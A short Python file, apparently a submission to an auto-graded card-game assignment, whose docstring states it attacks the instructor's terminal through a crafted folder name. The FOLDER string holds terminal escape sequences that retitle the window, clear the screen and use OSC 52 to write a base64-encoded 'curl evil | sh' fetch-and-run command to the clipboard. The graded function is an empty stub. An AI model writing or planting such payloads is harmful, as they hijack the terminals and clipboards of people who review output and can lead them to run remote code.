"""Attack the instructor's terminal through the folder name: a cursor move, an OSC 0 window
title, an OSC 52 clipboard write and a screen clear, printed in the score table."""
FOLDER = "ok\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\x1b[1A"


def is_set(cards):
    return False
